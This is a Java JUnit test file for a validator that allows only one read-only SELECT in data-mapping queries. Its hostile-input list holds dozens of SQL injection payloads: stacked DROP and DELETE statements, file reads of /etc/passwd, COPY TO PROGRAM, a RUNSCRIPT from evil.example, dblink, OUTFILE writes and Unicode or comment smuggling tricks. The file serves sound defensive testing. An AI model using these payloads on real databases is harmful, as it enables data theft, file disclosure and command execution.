package io.bizmaster.store.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.bizmaster.demo.DemoMigrations;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.dataformat.yaml.YAMLMapper;

/** Row-mapping queries: exactly one SELECT, judged on tokens so that strings may hold anything. */
class SelectOnlyQueryTest {

    @Test
    void acceptsTheDemoMigrationsMappings() {
        JsonNode mapping = new YAMLMapper().readTree(DemoMigrations.LEGACY_TO_MODERN_MAPPING).get("mapping");
        List<String> queries = new ArrayList<>();
        mapping.forEach(m -> queries.add(m.get("query").asString()));
        assertThat(queries).hasSize(3).allSatisfy(q -> assertThat(SelectOnlyQuery.problems(q)).as(q).isEmpty());
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "SELECT ID AS id, EMAIL AS email, BALANCE AS loyalty_points FROM CUSTOMER",
            "SELECT id, v, s FROM t",
            """
            SELECT c.id, c.first_name, c.last_name, c.email,
                   c.loyalty_points, a.street, a.zip, a.city
              FROM customers c
              LEFT JOIN addresses a ON a.customer_id = c.id
              JOIN orders o ON o.customer_id = c.id AND o.total > 0.5
             WHERE c.id LIKE 'run-%' AND o.placed_at >= TIMESTAMP '2024-01-01 00:00:00'
             GROUP BY c.id, c.first_name, c.last_name, c.email, c.loyalty_points, a.street, a.zip, a.city
            HAVING COUNT(*) > 1
             ORDER BY c.id
            """,
            "SELECT ID AS id, CASE STATUS_CODE WHEN 9 THEN 'CANCELLED' ELSE 'PLACED' END AS status FROM ORDERS",
            "SELECT SUBSTRING(ADDRESS FROM POSITION(', ' IN ADDRESS) + 2 FOR 5) AS zip FROM CUSTOMER",
            // Keywords, ';', comment markers, '$', '#' and '@' inside strings and quoted identifiers are data.
            "SELECT 'DROP TABLE x; DELETE FROM y; -- /* */ # $$ @v {call x}' AS note FROM t",
            "SELECT 'it''s; fine' AS a, \"weird;name\" AS b, `odd``name` AS c FROM t",
            "SELECT \"DELETE\", \"LOAD\", \"SET\" FROM \"UPDATE\"",
            "WITH recent AS (SELECT * FROM ORDERS WHERE PLACED_AT > DATE '2024-01-01') SELECT ID AS id FROM recent",
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT n FROM r",
            "(SELECT ID FROM A) UNION (SELECT ID FROM B)",
            "SELECT CAST(x AS VARCHAR(10)) AS other, y::text AS object, REPLACE(name, 'a', 'b') AS r FROM t",
            "SELECT CAST(NAME AS CHAR(20) CHARACTER SET utf8mb4) AS name FROM t",
            "SELECT x FROM t WHERE a = ? AND b <> 'x' OR c IN (1, 2, 3) LIMIT 10 OFFSET 5",
            "SELECT lo_value, sleep_minutes, file_reader FROM t",
            "SELECT a$b FROM t",
            "SELECT E'plain' AS e, N'x' AS n, X'00ff' AS bytes FROM t",
            "SELECT 1.5e3, .5, 0x1F FROM t",
            "select id from customer",
    })
    void acceptsPlainSelects(String query) {
        assertThat(SelectOnlyQuery.problems(query)).isEmpty();
        assertThat(SelectOnlyQuery.check(query)).isEqualTo(query);
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                arguments("SELECT 1; DROP TABLE CUSTOMER", "';' at line 1, column 9 is refused: a mapping query is exactly"
                        + " one statement"),
                arguments("SELECT 1; DROP TABLE CUSTOMER", "DROP at line 1, column 11 is refused"),
                arguments("SELECT 1;--", "';' at line 1, column 9 is refused"),
                arguments("SELECT 1;--", "the comment -- at line 1, column 10 is refused"),
                arguments("SELECT 1;", "remove the trailing ';'"),
                arguments("SELECT 1;  \n ", "remove the trailing ';'"),
                arguments("SELECT * FROM CUSTOMER /*;*/ ; DELETE FROM X", "the comment /* at line 1, column 24 is refused"),
                arguments("SELECT * FROM CUSTOMER /*;*/ ; DELETE FROM X", "';' at line 1, column 30"),
                arguments("SELECT * FROM CUSTOMER /*;*/ ; DELETE FROM X", "DELETE at line 1, column 32 is refused: a mapping"
                        + " query only reads rows; it cannot change data"),
                arguments("SELECT 1 /*! ; DROP TABLE x */", "the comment /* at line 1, column 10 is refused"),
                arguments("SELECT 1 # ; DROP TABLE x", "the comment # at line 1, column 10 is refused"),
                arguments("DELETE FROM CUSTOMER", "the query starts with DELETE at line 1, column 1: a mapping query only reads"
                        + " rows; it cannot change data; write one SELECT"),
                arguments("UPDATE CUSTOMER SET BALANCE = 0", "the query starts with UPDATE"),
                arguments("INSERT INTO X SELECT * FROM CUSTOMER", "the query starts with INSERT"),
                arguments("MERGE INTO X USING Y ON 1=1 WHEN MATCHED THEN DELETE", "the query starts with MERGE"),
                arguments("TRUNCATE TABLE CUSTOMER", "the query starts with TRUNCATE"),
                arguments("CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return \"\"; }'", "the query starts with CREATE"),
                arguments("DROP TABLE CUSTOMER", "the query starts with DROP"),
                arguments("ALTER TABLE CUSTOMER ADD X INT", "the query starts with ALTER"),
                arguments("GRANT ALL ON CUSTOMER TO PUBLIC", "the query starts with GRANT"),
                arguments("CALL FILE_WRITE('x', '/tmp/x')", "the query starts with CALL at line 1, column 1: it runs procedures"),
                arguments("EXEC sp_x", "the query starts with EXEC"),
                arguments("SET MODE MySQL", "the query starts with SET"),
                arguments("COMMIT", "the query starts with COMMIT"),
                arguments("RUNSCRIPT FROM 'http://evil.example/x.sql'", "the query starts with RUNSCRIPT"),
                arguments("SCRIPT TO '/tmp/dump.sql'", "the query starts with SCRIPT"),
                arguments("BACKUP TO '/tmp/x.zip'", "the query starts with BACKUP"),
                arguments("COPY (SELECT 1) TO PROGRAM 'id'", "the query starts with COPY"),
                arguments("LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE x", "the query starts with LOAD"),
                arguments("HANDLER t OPEN", "the query starts with HANDLER"),
                arguments("DO SLEEP(10)", "the query starts with DO"),
                arguments("VALUES (1)", "the query starts with VALUES"),
                arguments("EXPLAIN ANALYZE DELETE FROM t", "the query starts with EXPLAIN"),
                arguments("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "DELETE at line 1, column 12 is refused"),
                arguments("WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x", "INSERT at line 1, column 12"),
                arguments("SELECT FILE_READ('/etc/passwd')", "FILE_READ(…) at line 1, column 8 is refused: it reads or writes"
                        + " files on the database host"),
                arguments("SELECT file_write('x', '/tmp/x')", "file_write(…) at line 1, column 8 is refused"),
                arguments("SELECT * FROM CSVREAD('/etc/passwd')", "CSVREAD(…) at line 1, column 15 is refused"),
                arguments("SELECT CSVWRITE('/tmp/x', 'SELECT 1')", "CSVWRITE(…) at line 1, column 8"),
                arguments("SELECT * FROM LINK_SCHEMA('X', '', 'jdbc:h2:mem:x;INIT=x', 'sa', '', 'PUBLIC')", "LINK_SCHEMA(…)"),
                arguments("SELECT JAVA_EXEC('id')", "JAVA_EXEC(…) at line 1, column 8 is refused"),
                arguments("SELECT FT_INIT()", "FT_INIT(…) at line 1, column 8 is refused"),
                arguments("SELECT \"FILE_READ\"('/etc/passwd')", "\"FILE_READ\"(…) at line 1, column 8 is refused"),
                arguments("SELECT PUBLIC . FILE_READ ('/etc/passwd')", "FILE_READ(…) at line 1, column 17 is refused"),
                arguments("SELECT pg_read_file('/etc/passwd')", "pg_read_file(…) at line 1, column 8 is refused"),
                arguments("SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", "pg_read_binary_file(…)"),
                arguments("SELECT * FROM pg_ls_dir('.')", "pg_ls_dir(…) at line 1, column 15"),
                arguments("SELECT pg_stat_file('/etc/passwd')", "pg_stat_file(…)"),
                arguments("SELECT lo_import('/etc/passwd')", "lo_import(…) at line 1, column 8 is refused: large objects"),
                arguments("SELECT lo_export(1, '/tmp/x')", "lo_export(…)"),
                arguments("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)", "dblink(…)"),
                arguments("SELECT pg_sleep(100)", "pg_sleep(…) at line 1, column 8 is refused: it holds the connection"),
                arguments("SELECT pg_advisory_lock(1)", "pg_advisory_lock(…)"),
                arguments("SELECT set_config('search_path', 'evil', false)", "set_config(…) at line 1, column 8 is refused: it"
                        + " changes a session setting"),
                arguments("SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", "query_to_xml(…)"),
                arguments("SELECT pg_terminate_backend(1)", "pg_terminate_backend(…)"),
                arguments("SELECT nextval('s')", "nextval(…)"),
                arguments("SELECT LOAD_FILE('/etc/passwd')", "LOAD_FILE(…) at line 1, column 8 is refused"),
                arguments("SELECT SLEEP(100)", "SLEEP(…) at line 1, column 8 is refused"),
                arguments("SELECT BENCHMARK(100000000, MD5('x'))", "BENCHMARK(…) at line 1, column 8 is refused"),
                arguments("SELECT `load_file`('/etc/passwd')", "`load_file`(…) at line 1, column 8"),
                arguments("SELECT GET_LOCK('x', 10)", "GET_LOCK(…)"),
                arguments("SELECT * INTO OUTFILE '/tmp/x' FROM CUSTOMER", "INTO OUTFILE at line 1, column 10 is refused: it"
                        + " writes a file on the database server"),
                arguments("SELECT * FROM CUSTOMER INTO DUMPFILE '/tmp/x'", "INTO DUMPFILE at line 1, column 24"),
                arguments("SELECT * INTO NEW_TABLE FROM CUSTOMER", "INTO at line 1, column 10 is refused: SELECT … INTO writes"),
                arguments("SELECT * FROM CUSTOMER FOR UPDATE", "FOR UPDATE at line 1, column 24 is refused: it locks rows"),
                arguments("SELECT * FROM CUSTOMER FOR SHARE", "FOR SHARE at line 1, column 24 is refused"),
                arguments("SELECT * FROM CUSTOMER FOR NO KEY UPDATE", "FOR NO KEY UPDATE at line 1, column 24"),
                arguments("SELECT * FROM CUSTOMER FOR KEY SHARE", "FOR KEY SHARE at line 1, column 24"),
                arguments("SELECT * FROM CUSTOMER LOCK IN SHARE MODE", "LOCK at line 1, column 24 is refused: it locks"),
                arguments("SELECT * FROM CUSTOMER\nFOR UPDATE", "FOR UPDATE at line 2, column 1"),
                arguments("SELECT CAST(X'aced0005' AS JAVA_OBJECT)", "JAVA_OBJECT at line 1, column 28 is refused"),
                arguments("SELECT CAST(X'aced0005' AS OTHER)", "OTHER at line 1, column 28 is refused: it is H2's JAVA_OBJECT"),
                arguments("SELECT X'aced0005'::OTHER", "OTHER at line 1, column 21 is refused"),
                arguments("SELECT CONVERT(X'aced0005', OBJECT)", "OBJECT at line 1, column 29 is refused"),
                // Engines disagree here, so the check refuses rather than guess which one runs it.
                arguments("SELECT 'a\\' ; DROP TABLE x; -- '", "the backslash at line 1, column 10 inside a string literal is refused"),
                arguments("SELECT \"a\\\" ; DROP TABLE x; -- \"", "inside a quoted identifier is refused"),
                arguments("SELECT E'\\x27' AS q", "the backslash at line 1, column 10"),
                arguments("SELECT $$ ; DROP TABLE x; $$", "'$' at line 1, column 8 is refused"),
                arguments("SELECT $tag$x$tag$", "'$' at line 1, column 8 is refused"),
                arguments("SELECT a$$b FROM t", "'$$' in a$$b at line 1, column 8 is refused"),
                arguments("SELECT U&\"pg!005fread_file\" UESCAPE '!' ('/etc/passwd')", "U& at line 1, column 8 is refused"),
                arguments("SELECT @x := 1", "'@' at line 1, column 8 is refused"),
                arguments("SELECT @@datadir", "'@' at line 1, column 8"),
                arguments("{call x()}", "'{' at line 1, column 1 is refused: the JDBC driver rewrites"),
                arguments("SELECT {fn user()}", "'{' at line 1, column 8"),
                arguments("SELECT \\N", "'\\' at line 1, column 8 is refused"),
                // Look-alike letters: upper-cased by the locale-independent rule, dotless ı is I.
                arguments("SELECT * ınto OUTFILE '/tmp/x' FROM t", "INTO OUTFILE at line 1, column 10"),
                arguments("SELECT * FROM t WHERE x = 1 ınto y", "ınto (read as INTO) at line 1, column 29 is refused"),
                arguments("SELECT\u00a0x FROM t", "the invisible or control character U+00A0 at line 1, column 7 is refused"),
                arguments("SELECT x FROM t \u202e", "U+202E"),
                arguments("SELECT x\u0000 FROM t", "U+0000"),
                arguments("SELECT 'abc", "the string literal opened with ' at line 1, column 8 is not closed"),
                arguments("SELECT \"abc", "the quoted identifier opened with \" at line 1, column 8 is not closed"),
                arguments("SELECT `a; DELETE FROM t; SELECT ` FROM t", "; inside the `…` identifier at line 1, column 8 is"
                        + " refused: PostgreSQL does not read backticks as quotes"),
                arguments("SELECT `a'` FROM t", "' inside the `…` identifier at line 1, column 8"),
                arguments("SELECT `abc", "the quoted identifier opened with ` at line 1, column 8 is not closed"),
                arguments("SELECT 1 /* never closed", "the comment /* at line 1, column 10 is refused"),
                arguments("SELECT (1", "1 '(' is not closed"),
                arguments("SELECT 1)", "')' at line 1, column 9 closes nothing"),
                arguments("", "the query is empty"),
                arguments("   \n\t ", "the query is empty"),
                arguments(null, "the query is empty"),
                arguments("-- only a comment", "the query has no statement"),
                arguments("SELECT " + "x, ".repeat(3_400) + "y FROM t", "at most 10,000 are allowed"));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void refusesAnythingButOneReadingSelect(String query, String expected) {
        assertThat(SelectOnlyQuery.problems(query)).as(query).anySatisfy(p -> assertThat(p).contains(expected));
        assertThatThrownBy(() -> SelectOnlyQuery.check(query)).isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining(expected);
    }

    @Test
    void reportsEveryProblemInOrderOfPosition() {
        assertThat(SelectOnlyQuery.problems("SELECT FILE_READ('/etc/passwd') FROM t; DELETE FROM t -- bye"))
                .satisfiesExactly(
                        p -> assertThat(p).startsWith("FILE_READ(…) at line 1, column 8"),
                        p -> assertThat(p).startsWith("';' at line 1, column 39"),
                        p -> assertThat(p).startsWith("DELETE at line 1, column 41"),
                        p -> assertThat(p).startsWith("the comment -- at line 1, column 55"));
    }

    @Test
    void namesAStatementWordOnceAndSuggestsQuotingWhenItMayBeAName() {
        assertThat(SelectOnlyQuery.problems("SELECT LOAD FROM t"))
                .containsExactly("LOAD at line 1, column 8 is refused: it reaches files or controls the server; a mapping"
                        + " query is one SELECT; if it is a column or table name, quote it (\"LOAD\")");
        assertThat(SelectOnlyQuery.problems("SELECT * FROM CUSTOMER FOR UPDATE")).hasSize(1);
        assertThat(SelectOnlyQuery.problems("SELECT * INTO OUTFILE '/tmp/x' FROM CUSTOMER")).hasSize(1);
    }

    @Test
    void refusedFunctionsAreMatchedOnlyWhenCalled() {
        assertThat(SelectOnlyQuery.problems("SELECT sleep, file_read, pg_sleep FROM t")).isEmpty();
        assertThat(SelectOnlyQuery.problems("SELECT sleep (1) FROM t"))
                .singleElement(InstanceOfAssertFactories.STRING).startsWith("sleep(…)");
    }
}
